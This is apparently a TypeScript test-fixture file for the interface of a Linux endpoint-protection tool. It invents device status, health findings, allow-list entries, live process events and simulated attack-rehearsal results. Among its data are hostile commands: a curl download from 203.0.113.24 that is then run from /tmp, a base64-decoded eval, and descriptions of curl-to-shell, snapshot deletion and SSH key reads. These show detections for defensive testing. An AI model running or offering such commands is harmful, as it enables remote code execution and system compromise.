/** Invented facts of a device: its state, health, use, allows, live events, a rehearsal. */
import type { CallOutput, DoctorFinding } from '../../../../shared/control/calls.ts';
import type { AppInfo, AppState, RehearsalState } from '../../../../shared/ipc/table.ts';
import type { LiveEvent } from '../../../../shared/live/event.ts';
import type { RehearsalResult } from '../../../../shared/rehearsal/result.ts';
import type { ProtectionState, Status } from '../../../../shared/status/status.ts';
import { ruleOf } from './rules.ts';

export const iso = (ms: number): string => new Date(ms).toISOString();

export const INFO: AppInfo = { version: '0.1.0', role: 'ui', instance: 'default', platform: 'linux', user: 'ada', runtime: { electron: '45.4.1', chrome: '144.0.7559.12', node: '24.13.0' }, sandbox: { on: true, reason: null } };
export const ME: NonNullable<AppState['me']> = { uid: 1000, user: 'ada', mayChange: false, mayAsk: true, whyNot: null };

export function statusOf(state: ProtectionState, nowMs: number, more: Partial<Status> = {}): Status {
  return {
    version: '0.1.0', instance: 'default', state, reasons: [],
    engine: { pid: 811, restarts: 0 },
    sentinel: { pid: 812, restarts: 0, decisions: 48_211, denied: 9, p50us: 237, p99us: 1_450 },
    sensors: [
      { id: 'exec-gate', state: 'running', lastEventAt: iso(nowMs - 2_400), lost: 0, lagMs: 0, reason: null },
      { id: 'process-news', state: 'running', lastEventAt: iso(nowMs - 1_100), lost: 0, lagMs: 3, reason: null, starts: { seen: 51_880, complete: 51_874 } },
    ],
    coverage: [{ mount: '/', prevent: true, reason: null, cause: 'covered' }, { mount: '/home', prevent: true, reason: null, cause: 'covered' }],
    rules: { off: 6, audit: 4, warn: 4, block: 7, downgraded: 0 },
    gaps: [], pausedUntil: null, pause: null, scope: [],
    ...more,
  };
}

export function connected(status: Status): AppState {
  return { connection: 'connected', reason: null, status, me: ME };
}

export const HEALTHY: readonly DoctorFinding[] = [
  { id: 'rights', level: 'ok', message: 'The engine runs with the rights it needs.', fix: null },
  { id: 'sentinel', level: 'ok', message: 'The sentinel answers the kernel (process 812).', fix: null },
  { id: 'fail', level: 'note', message: 'A start that can not be judged in time is let through and judged again right after (fail-open). While the sentinel is being replaced the kernel lets every start through; those that still run are judged right after.', fix: null },
  { id: 'coverage', level: 'ok', message: 'Starts are prevented on 4 mounted file systems.', fix: null },
  { id: 'sensor-exec-gate', level: 'ok', message: 'The sensor exec-gate works (last event 2 s ago).', fix: null },
  { id: 'sensor-process-news', level: 'ok', message: 'The sensor process-news works (last event 1 s ago).', fix: null },
  { id: 'rules', level: 'ok', message: '13 rules act (block, warn or audit).', fix: null },
];

export const UNWELL: readonly DoctorFinding[] = [
  { id: 'sentinel', level: 'problem', message: 'The sentinel does not run.', fix: 'It is started again by itself; if this stays, the log of the engine says why.' },
  { id: 'coverage', level: 'problem', message: 'Starts from /srv/builds should be prevented and can only be stopped right after: the kernel refused the mark (ENOSPC)', fix: null },
  { id: 'coverage', level: 'note', message: 'Starts from /mnt/nas are stopped right after the start, not before: it is a network file system', fix: null },
  { id: 'restarts', level: 'note', message: 'The sentinel was started again 2 times.', fix: null },
  ...HEALTHY.filter(({ id }) => id === 'rights' || id.startsWith('sensor')),
];

export const USAGE: CallOutput<'usage'> = {
  processes: [{ name: 'engine', pid: 811, cpuPercent: 0.4, memoryMb: 61.2 }, { name: 'sentinel', pid: 812, cpuPercent: 0.2, memoryMb: 43.8 }, { name: 'owner', pid: 803, cpuPercent: 0.1, memoryMb: 38.5 }],
};

export function allowsAt(nowMs: number): CallOutput<'allowList'>['allows'] {
  const allow = (id: string, slug: string, image: string, commandLine: string | null, more: Partial<CallOutput<'allowList'>['allows'][number]>): CallOutput<'allowList'>['allows'][number] => ({
    id, ruleId: ruleOf(slug).id, ruleName: ruleOf(slug).name, image, content: 'build:5f1c', commandLine, parentImage: '/usr/bin/bash', expiresAtMs: null, ends: 'time', bootId: null, reason: '', approver: 'ada', createdAtMs: nowMs - 3_600_000, expired: false, uses: 0, lastUsedAt: null, fromHistoryId: 'e2', ...more,
  });
  return [
    allow('a1', 'copied-system-tools', '/home/ada/bin/pack-report', './pack-report --wrap=0 /etc/hostname', { reason: 'our packaging script', expiresAtMs: nowMs + 11 * 60_000, uses: 3, lastUsedAt: iso(nowMs - 90_000) }),
    allow('a2', 'script-downloads', '/usr/bin/dash', 'sh ./install-toolchain.sh --yes', { reason: 'new laptop, ticket 4471', expiresAtMs: nowMs + 21 * 3_600_000, uses: 1, approver: 'root' }),
    allow('a3', 'removable-media', '/media/ada/BUILD/flash-tool', null, { reason: 'firmware lab', ends: 'boot', bootId: 'b' }),
    allow('a4', 'rare-executables', '/home/ada/Downloads/whiteboard-2.4.AppImage', './whiteboard-2.4.AppImage', { reason: 'approved by IT', ends: 'never', createdAtMs: nowMs - 19 * 86_400_000, approver: 'root' }),
    allow('a5', 'obfuscated-scripts', '/usr/bin/bash', 'bash -c eval "$(base64 -d < ./bootstrap)"', { reason: 'vendor installer', ends: 'once', expired: true, uses: 1 }),
  ];
}

export function liveAt(nowMs: number): LiveEvent[] {
  const event = (seq: number, kind: string, image: string, commandLine: string, outcome: LiveEvent['outcome'], rule: string | null = null): LiveEvent => ({ seq, time: iso(nowMs - (40 - seq) * 700), kind, pid: 30_000 + seq, image, commandLine, user: 'ada', parentImage: '/usr/bin/bash', outcome, rule });
  return [
    event(30, 'process-start', '/usr/bin/git', 'git fetch --all --prune', 'clear'),
    event(31, 'process-start', '/usr/lib/git-core/git-remote-https', 'git-remote-https origin https://git.example/ada/site.git', 'clear'),
    event(32, 'process-start', '/usr/bin/node', 'node scripts/build.mjs --watch', 'clear'),
    event(33, 'process-start', '/home/ada/bin/pack-report', './pack-report --wrap=0 /etc/hostname', 'allowed'),
    event(34, 'opening', '/usr/bin/rsync', 'rsync -a --delete /home/ada/ backup@nas.example:/volume1/ada/', 'audited', 'credential-stores'),
    event(35, 'process-start', '/usr/bin/systemctl', 'systemctl --user status', 'clear'),
    event(36, 'finding', '/usr/bin/dash', 'sh -c curl -fsSL http://203.0.113.24/q3.sh -o /tmp/.q3; sh /tmp/.q3', 'prevented', 'office-children'),
    event(37, 'process-start', '/usr/bin/less', 'less /var/log/dpkg.log', 'clear'),
  ];
}

const RESULTS: readonly (readonly [id: string, behaviour: string, slug: string, happened: RehearsalResult['happened']])[] = [
  ['office-shell', 'An office program starts a shell, as a macro would.', 'office-children', 'prevented'],
  ['pdf-shell', 'A PDF reader starts a shell, as a prepared document would make it.', 'pdf-reader-children', 'prevented'],
  ['mail-script', 'A mail program starts a script interpreter, as an opened attachment would.', 'mail-client-children', 'prevented'],
  ['curl-pipe', 'A download is piped straight into a shell (curl … | sh).', 'obfuscated-scripts', 'prevented'],
  ['tool-renamed', 'A tool of this system is copied under another name and started.', 'copied-system-tools', 'prevented'],
  ['snapshots', 'All snapshots are deleted, as ransomware does first.', 'backup-destruction', 'prevented'],
  ['ssh-key', 'A program that has nothing to do with SSH reads a private SSH key (a decoy).', 'credential-stores', 'audited'],
  ['stick', 'A program is started from a stick.', 'removable-media', 'skipped'],
];

export function rehearsalOf(count: number, more: Partial<RehearsalState> = {}): RehearsalState {
  const results = RESULTS.slice(0, count).map(([id, behaviour, slug, happened], index): RehearsalResult => ({ id, behaviour, rule: ruleOf(slug).name, mode: happened === 'audited' ? 'audit' : 'block', expected: happened, happened, ok: true, historyId: happened === 'skipped' ? null : `e${index}`, note: happened === 'skipped' ? 'No removable drive is plugged in.' : null }));
  return { running: false, results, planned: count, problem: null, ...more };
}
